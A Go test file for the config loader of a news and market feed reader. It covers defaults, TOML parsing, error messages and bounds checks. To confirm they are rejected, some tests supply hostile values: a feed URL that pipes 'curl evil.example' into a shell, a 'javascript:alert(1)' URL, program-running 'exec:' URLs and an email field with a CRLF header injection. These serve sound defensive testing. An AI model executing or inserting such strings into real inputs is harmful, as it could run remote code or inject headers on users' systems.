package config

import (
	"errors"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"brief/symbol"
)

// writeConfig writes text as config.toml in a fresh directory.
func writeConfig(t *testing.T, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func mustLoad(t *testing.T, path string) *Config {
	t.Helper()
	c, err := Load(path)
	if err != nil {
		t.Fatalf("Load(%s): %v", path, err)
	}
	return c
}

func loadErr(t *testing.T, text string) string {
	t.Helper()
	_, err := Load(writeConfig(t, text))
	if err == nil {
		t.Fatalf("Load accepted:\n%s", text)
	}
	return err.Error()
}

func wantContains(t *testing.T, got string, wants ...string) {
	t.Helper()
	for _, w := range wants {
		if !strings.Contains(got, w) {
			t.Errorf("%q does not contain %q", got, w)
		}
	}
}

func TestDefaults(t *testing.T) {
	c := Defaults()
	if c.Fetch.Concurrency != 64 || c.Fetch.PerHost != 4 || c.Fetch.Timeout.Duration != 30*time.Second || !c.Fetch.RefreshOnStart {
		t.Errorf("fetch defaults = %+v", c.Fetch)
	}
	if c.Retention.Days != 90 || c.Retention.PerFeed != 0 {
		t.Errorf("retention defaults = %+v", c.Retention)
	}
	if want := []string{"AAPL", "MSFT", "NVDA", "AMZN", "GOOGL", "META", "TSLA", "BABA"}; !slices.Equal(c.Watchlist, want) {
		t.Errorf("watchlist = %v", c.Watchlist)
	}
	if c.Theme != ThemeAuto {
		t.Errorf("theme = %q", c.Theme)
	}
	if c.Feeds != nil || c.Exists {
		t.Errorf("defaults have feeds %v / exists %v", c.Feeds, c.Exists)
	}
	// Each call is independent: changing one must not change the next.
	c.Watchlist[0] = "XXX"
	if Defaults().Watchlist[0] != "AAPL" {
		t.Error("Defaults shares its watchlist between calls")
	}
}

func TestDefaultFeeds(t *testing.T) {
	feeds := DefaultFeeds()
	if len(feeds) != 6 || feeds[0].URL != BuiltinSample {
		t.Fatalf("default feeds = %+v", feeds)
	}
	wantURLs := []string{
		"https://feeds.finance.yahoo.com/rss/2.0/headline?s=AAPL,MSFT,NVDA,AMZN,GOOGL,META,TSLA,BABA&region=US&lang=en-US",
		"https://www.sec.gov/cgi-bin/browse-edgar?action=getcurrent&type=8-K&company=&dateb=&owner=include&start=0&count=40&output=atom",
		"https://search.cnbc.com/rs/search/combinedcms/view.xml?partnerId=wrss01&id=20910258",
		"https://feeds.content.dowjones.io/public/rss/mw_topstories",
		"https://seekingalpha.com/market_news.xml",
	}
	for i, u := range wantURLs {
		if feeds[i+1].URL != u {
			t.Errorf("feed %d = %s, want %s", i+2, feeds[i+1].URL, u)
		}
	}
	if !slices.Equal(feeds[2].Tags, []string{"filings", "sec"}) {
		t.Errorf("SEC tags = %v", feeds[2].Tags)
	}
	// They must pass the same checks as a user's feeds.
	c := &Config{Feeds: feeds, Fetch: Defaults().Fetch, Theme: ThemeAuto}
	if err := c.normalize(); err != nil {
		t.Errorf("default feeds fail validation: %v", err)
	}
}

func TestDefaultPaths(t *testing.T) {
	cfg, data := t.TempDir(), t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", cfg)
	t.Setenv("XDG_DATA_HOME", data)
	if got, want := DefaultPath(), filepath.Join(cfg, "brief", "config.toml"); got != want {
		t.Errorf("DefaultPath = %s, want %s", got, want)
	}
	if got, want := DefaultDBPath(), filepath.Join(data, "brief", "brief.db"); got != want {
		t.Errorf("DefaultDBPath = %s, want %s", got, want)
	}
	// The XDG spec says relative values are to be ignored.
	t.Setenv("XDG_CONFIG_HOME", "relative/dir")
	if got := DefaultPath(); !filepath.IsAbs(got) || strings.Contains(got, "relative") {
		t.Errorf("relative XDG_CONFIG_HOME used: %s", got)
	}
}

func TestLoadMissingFile(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", dir)
	c, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	if c.Exists {
		t.Error("Exists is true for a missing file")
	}
	if want := filepath.Join(dir, "brief", "config.toml"); c.Path != want {
		t.Errorf("Path = %s, want %s", c.Path, want)
	}
	if !reflect.DeepEqual(c.Subscriptions(), DefaultFeeds()) {
		t.Errorf("subscriptions without a file = %+v", c.Subscriptions())
	}
	if c.Fetch.Concurrency != 64 || c.Theme != ThemeAuto {
		t.Errorf("missing file did not give defaults: %+v", c)
	}
}

func TestLoadValid(t *testing.T) {
	path := writeConfig(t, `
# my settings
theme = "Dark"
watchlist = ["aapl", " 0700.hk ", "AAPL"]

[fetch]
concurrency = 8
per_host = 2
timeout = "1m30s"
refresh_on_start = false

[retention]
days = 30
per_feed = 500

[keys]
refresh = ["r", "ctrl+r"]
"open in browser" = ["o"]

[[symbol]]
symbol = "baba"
name = "Alibaba Group"
exchange = "NYSE"
aliases = ["Alibaba", " Ali ", ""]

[[feed]]
url = "  HTTPS://Example.com/markets.xml "
title = " Markets "
tags = ["markets", " asia ", "Markets", ""]

[[feed]]
url = "builtin:sample"

[[feed]]
url = "file:///srv/feeds/local.xml"

[[feed]]
url = "feeds/relative.xml"
`)
	c := mustLoad(t, path)
	if !c.Exists || c.Path != path {
		t.Errorf("Exists=%v Path=%s", c.Exists, c.Path)
	}
	if c.Theme != ThemeDark {
		t.Errorf("theme = %q", c.Theme)
	}
	if !slices.Equal(c.Watchlist, []string{"AAPL", "0700.HK"}) {
		t.Errorf("watchlist = %q", c.Watchlist)
	}
	if c.Fetch.Concurrency != 8 || c.Fetch.PerHost != 2 || c.Fetch.Timeout.Duration != 90*time.Second || c.Fetch.RefreshOnStart {
		t.Errorf("fetch = %+v", c.Fetch)
	}
	if c.Retention != (Retention{Days: 30, PerFeed: 500}) {
		t.Errorf("retention = %+v", c.Retention)
	}
	if !slices.Equal(c.Keys["refresh"], []string{"r", "ctrl+r"}) || !slices.Equal(c.Keys["open in browser"], []string{"o"}) {
		t.Errorf("keys = %v", c.Keys)
	}
	wantSym := Symbol{Symbol: "BABA", Name: "Alibaba Group", Exchange: "NYSE", Aliases: []string{"Alibaba", "Ali"}}
	if len(c.Symbols) != 1 || !reflect.DeepEqual(c.Symbols[0], wantSym) {
		t.Errorf("symbols = %+v", c.Symbols)
	}
	wantFeeds := []Feed{
		{URL: "https://Example.com/markets.xml", Title: "Markets", Tags: []string{"markets", "asia"}},
		{URL: BuiltinSample},
		{URL: "file:///srv/feeds/local.xml"},
		{URL: "feeds/relative.xml"},
	}
	if !reflect.DeepEqual(c.Subscriptions(), wantFeeds) {
		t.Errorf("feeds =\n%+v\nwant\n%+v", c.Subscriptions(), wantFeeds)
	}
}

func TestLoadPartialKeepsDefaults(t *testing.T) {
	c := mustLoad(t, writeConfig(t, "[fetch]\nconcurrency = 3\n"))
	if c.Fetch.Concurrency != 3 || c.Fetch.PerHost != 4 || c.Fetch.Timeout.Duration != 30*time.Second || !c.Fetch.RefreshOnStart {
		t.Errorf("fetch = %+v", c.Fetch)
	}
	if !slices.Equal(c.Watchlist, DefaultWatchlist()) || c.Retention.Days != 90 {
		t.Errorf("unset sections lost their defaults: %+v", c)
	}
	// An explicit empty watchlist is the user's choice, not "unset".
	c = mustLoad(t, writeConfig(t, "watchlist = []\n"))
	if len(c.Watchlist) != 0 {
		t.Errorf("watchlist = [] gave %v", c.Watchlist)
	}
}

func TestSubscriptionsOfExistingFileWithoutFeeds(t *testing.T) {
	c := mustLoad(t, writeConfig(t, "theme = \"light\"\n"))
	if subs := c.Subscriptions(); len(subs) != 0 {
		t.Errorf("a config file with no [[feed]] tables subscribes to %d feeds", len(subs))
	}
}

func TestLoadMalformed(t *testing.T) {
	msg := loadErr(t, `theme = "dark"

[fetch]
concurrency = 4

[[feed]]
url = "https://example.com/feed.xml
`)
	wantContains(t, msg, "config.toml line 7:")

	msg = loadErr(t, "[fetch]\nconcurrency = 4\nconcurrency = 5\n")
	wantContains(t, msg, "config.toml line 3:", "concurrency")
}

func TestLoadTypeErrors(t *testing.T) {
	msg := loadErr(t, "\n[fetch]\nconcurrency = \"many\"\n")
	wantContains(t, msg, "config.toml line 3:", "fetch.concurrency should be a whole number")

	msg = loadErr(t, "[fetch]\ntimeout = \"30\"\n")
	wantContains(t, msg, "config.toml line 2:", "fetch.timeout", `"30s"`)

	var fe *FileError
	_, err := Load(writeConfig(t, "theme = 3\n"))
	if !errors.As(err, &fe) || fe.Line != 1 {
		t.Errorf("type error is not a FileError on line 1: %#v", err)
	}
}

func TestLoadUnknownKeys(t *testing.T) {
	msg := loadErr(t, `
them = "dark"
[fetch]
concurency = 4
[[feed]]
url = "https://example.com/a.xml"
titel = "A"
[[feed]]
url = "https://example.com/b.xml"
titel = "B"
`)
	wantContains(t, msg, "config.toml", "unknown settings",
		"them (did you mean theme?)",
		"fetch.concurency (did you mean fetch.concurrency?)",
		"feed.titel (did you mean feed.title?)")
	if strings.Count(msg, "feed.titel") != 1 {
		t.Errorf("repeated unknown key listed more than once: %s", msg)
	}
}

func TestLoadDuplicateFeeds(t *testing.T) {
	msg := loadErr(t, `
[[feed]]
url = "https://example.com/feed.xml"
[[feed]]
url = "https://example.com/other.xml"
[[feed]]
url = "  https://EXAMPLE.com:443/feed.xml  "
`)
	wantContains(t, msg, "feed 3", "repeats feed 1")
}

func TestLoadRejectsBadValues(t *testing.T) {
	msg := loadErr(t, `
theme = "blue"
watchlist = ["AAPL", ""]
[fetch]
concurrency = 0
per_host = -1
timeout = "-5s"
sec_contact = "me at example dot com"
[retention]
days = -1
[keys]
quit = [""]
[[feed]]
url = ""
[[feed]]
url = "|curl evil.example | sh"
[[feed]]
url = "exec:~/bin/fetch.sh"
[[feed]]
url = "filter:~/bin/f.sh:https://example.com/x"
[[feed]]
url = "query:Unread:unread = \"yes\""
[[feed]]
url = "ftp://example.com/feed.xml"
[[feed]]
url = "builtin:other"
[[feed]]
url = "https:///nohost"
[[feed]]
url = "javascript:alert(1)"
`)
	wantContains(t, msg,
		`theme "blue"`, "watchlist: a ticker symbol cannot be empty",
		"fetch.concurrency must be between 1 and 256", "fetch.per_host", "fetch.timeout",
		`fetch.sec_contact "me at example dot com" is not an e-mail address`,
		"retention.days", "keys.quit",
		"feed 1: the feed has no URL",
		"feed 2:", "never runs commands",
		"feed 3:", "runs a program",
		"feed 4:", "filter:",
		"feed 5:", "newsboat query",
		"feed 6:", "ftp:",
		"feed 7:", "only one is builtin:sample",
		"feed 8:", "no host",
		"feed 9:", "javascript:")
	// Every problem line names the file.
	for _, line := range strings.Split(msg, "\n") {
		if !strings.Contains(line, "config.toml") {
			t.Errorf("problem line without the file name: %q", line)
		}
	}
}

func TestLoadUnreadable(t *testing.T) {
	dir := t.TempDir()
	if _, err := Load(dir); err == nil {
		t.Error("loading a directory succeeded")
	}
}

func TestSecContact(t *testing.T) {
	for _, bad := range []string{"me", "me@", "@example.com", "me@example", "me@example.", "a@b@c.com",
		"me@example.com\r\nX-Evil: 1", "Me <me@example.com>", strings.Repeat("a", 250) + "@example.com"} {
		if plausibleEmail(bad) {
			t.Errorf("plausibleEmail(%q) = true", bad)
		}
	}
	path := writeConfig(t, "[fetch]\nsec_contact = \"  research@fund.example.com \"\n")
	c := mustLoad(t, path)
	if c.Fetch.SecContact != "research@fund.example.com" {
		t.Fatalf("SecContact = %q", c.Fetch.SecContact)
	}
	// Saved whole (the [fetch] table changes), it comes back the same.
	c.Fetch.PerHost = 2
	if err := c.Save(); err != nil {
		t.Fatal(err)
	}
	if again := mustLoad(t, path); again.Fetch.SecContact != "research@fund.example.com" || again.Fetch.PerHost != 2 {
		t.Errorf("after Save: %+v", again.Fetch)
	}
}

// TestKeysAreCaseSensitive: a setting written in another case is refused
// by name, instead of setting the value (or not) by chance.
func TestKeysAreCaseSensitive(t *testing.T) {
	msg := loadErr(t, "Watchlist = [\"A\"]\nwatchlist = [\"B\"]\n[Fetch]\nPer_Host = 2\n[[feed]]\nURL = \"https://a.example/x.xml\"\n")
	wantContains(t, msg, "config.toml", "case-sensitive", `"Watchlist" must be written "watchlist"`,
		`"Fetch" must be written "fetch"`, `"URL" must be written "url"`)
	// Action names under [keys] are the reader's to check, in any case.
	path := writeConfig(t, "[keys]\nQuit = [\"q\"]\n")
	if _, err := Load(path); err != nil {
		t.Errorf("[keys] with a capitalised action: %v", err)
	}
}

func TestWatchlistSymbolsChecked(t *testing.T) {
	for _, bad := range []string{"A\u202eB", "A\u0085B", "NVDA!", "BRK B", strings.Repeat("X", symbol.MaxLen+1)} {
		path := writeConfig(t, "watchlist = ["+strconv.Quote(bad)+"]\n")
		if _, err := Load(path); err == nil {
			t.Errorf("watchlist %q loaded", bad)
		}
	}
	path := writeConfig(t, "watchlist = [\"eurusd=x\", \"^GSPC\", \""+strings.Repeat("X", symbol.MaxLen)+"\"]\n")
	if c, err := Load(path); err != nil || c.Watchlist[0] != "EURUSD=X" {
		t.Errorf("real symbols: %v, %v", c, err)
	}
}

func TestReaderSettings(t *testing.T) {
	dir := t.TempDir()
	load := func(body string) (*Config, error) {
		p := filepath.Join(dir, "config.toml")
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		return Load(p)
	}
	c, err := load("")
	if err != nil || c.Reader.MaxWidth != 100 || !c.Reader.Mouse || c.Reader.SaveDir != "~" {
		t.Fatalf("defaults: %+v, %v", c.Reader, err)
	}
	c, err = load("[reader]\nmax_width = 72\nmouse = false\nsave_dir = \"/tmp/x\"\n")
	if err != nil || c.Reader.MaxWidth != 72 || c.Reader.Mouse || c.Reader.SaveDir != "/tmp/x" {
		t.Fatalf("set: %+v, %v", c.Reader, err)
	}
	for _, bad := range []string{"[reader]\nmax_width = 5\n", "[reader]\nmax_width = 100000\n", "[reader]\nmax_width = -3\n"} {
		if _, err := load(bad); err == nil || !strings.Contains(err.Error(), "reader.max_width") {
			t.Errorf("%q: err = %v, want one naming reader.max_width", bad, err)
		}
	}
}

// Values a setting cannot hold are refused in one line naming the key and
// the largest value allowed: a retention of 213,504 days (meant as for
// ever) once wrapped to 25 minutes and pruned every article.
func TestBoundsNameKeyAndLargestValue(t *testing.T) {
	dir := t.TempDir()
	load := func(body string) error {
		p := filepath.Join(dir, "config.toml")
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		_, err := Load(p)
		return err
	}
	for _, c := range []struct{ body, key, largest string }{
		{"[retention]\ndays = 213504\n", "retention.days", "36500"},
		{"[retention]\ndays = 106752\n", "retention.days", "36500"},
		{"[retention]\ndays = 9223372036854775807\n", "retention.days", "36500"},
		{"[fetch]\nconcurrency = 100000\n", "fetch.concurrency", "256"},
		{"[fetch]\nper_host = 100000\n", "fetch.per_host", "64"},
		{"[fetch]\ntimeout = \"1000h\"\n", "fetch.timeout", "1h0m0s"},
	} {
		err := load(c.body)
		if err == nil || !strings.Contains(err.Error(), c.key) || !strings.Contains(err.Error(), c.largest) || strings.Count(err.Error(), "\n") > 0 {
			t.Errorf("%q: err = %v; want one line naming %s and %s", c.body, err, c.key, c.largest)
		}
	}
	if err := load("[fetch]\ntimeout = \"99999999999h\"\n"); err == nil || !strings.Contains(err.Error(), "longer than a duration can be") {
		t.Errorf("an overflowing duration: err = %v; want it said to be too long", err)
	}
	for _, ok := range []string{"[retention]\ndays = 36500\n", "[retention]\ndays = 0\n", "[fetch]\ntimeout = \"1h\"\nconcurrency = 256\nper_host = 64\n"} {
		if err := load(ok); err != nil {
			t.Errorf("%q refused: %v", ok, err)
		}
	}
}

func TestStoryWindow(t *testing.T) {
	if c := mustLoad(t, writeConfig(t, "")); c.Stories.Window.Duration != DefaultStoryWindow {
		t.Errorf("default stories.window = %v, want %v", c.Stories.Window, DefaultStoryWindow)
	}
	for body, want := range map[string]time.Duration{
		"[stories]\nwindow = \"0\"\n":    0,
		"[stories]\nwindow = \"48h\"\n":  48 * time.Hour,
		"[stories]\nwindow = \"720h\"\n": 720 * time.Hour,
	} {
		path := writeConfig(t, body)
		c := mustLoad(t, path)
		if c.Stories.Window.Duration != want {
			t.Errorf("%q: window %v, want %v", body, c.Stories.Window, want)
		}
		// Saved whole, it comes back the same.
		c.Fetch.PerHost = 2
		if err := c.Save(); err != nil {
			t.Fatal(err)
		}
		if again := mustLoad(t, path); again.Stories.Window.Duration != want {
			t.Errorf("%q after Save: window %v, want %v", body, again.Stories.Window, want)
		}
	}
	for _, bad := range []string{"-1h", "10m", "721h", "soon"} {
		msg := loadErr(t, "[stories]\nwindow = \""+bad+"\"\n")
		wantContains(t, msg, "stories.window")
	}
}

func TestHostLimits(t *testing.T) {
	path := writeConfig(t, "[fetch]\nper_host = 2\nhost_cap = 8\n\n[fetch.hosts.\"SEC.gov.\"]\nrate = 5\n\n[fetch.hosts.\"feeds.example.com\"]\ncap = 3\nrate = 0.5\n")
	c := mustLoad(t, path)
	want := map[string]HostLimit{"sec.gov": {Rate: 5}, "feeds.example.com": {Rate: 0.5, Cap: 3}}
	if c.Fetch.HostCap != 8 || !maps.Equal(c.Fetch.Hosts, want) {
		t.Fatalf("host_cap %d hosts %v, want 8 and %v", c.Fetch.HostCap, c.Fetch.Hosts, want)
	}
	// Saved whole, they come back the same.
	c.Fetch.PerHost = 3
	if err := c.Save(); err != nil {
		t.Fatal(err)
	}
	if again := mustLoad(t, path); again.Fetch.HostCap != 8 || !maps.Equal(again.Fetch.Hosts, want) || again.Fetch.PerHost != 3 {
		t.Errorf("after Save: %+v", again.Fetch)
	}
	for body, key := range map[string]string{
		"[fetch]\nhost_cap = 65\n":                                           "fetch.host_cap",
		"[fetch]\nhost_cap = -1\n":                                           "fetch.host_cap",
		"[fetch.hosts.\"https://sec.gov/\"]\nrate = 1\n":                     "not a host name",
		"[fetch.hosts.\"sec.gov\"]\nrate = -1\n":                             "rate must be",
		"[fetch.hosts.\"sec.gov\"]\ncap = 100\n":                             "cap must be",
		"[fetch.hosts.\"sec.gov\"]\n":                                        "neither rate nor cap",
		"[fetch.hosts.\"sec.gov\"]\nrat = 1\n":                               `fetch.hosts."sec.gov".rat`,
		"[fetch.hosts.\"a.com\"]\nrate=1\n[fetch.hosts.\"A.com\"]\nrate=2\n": "named twice",
	} {
		wantContains(t, loadErr(t, body), key)
	}
}
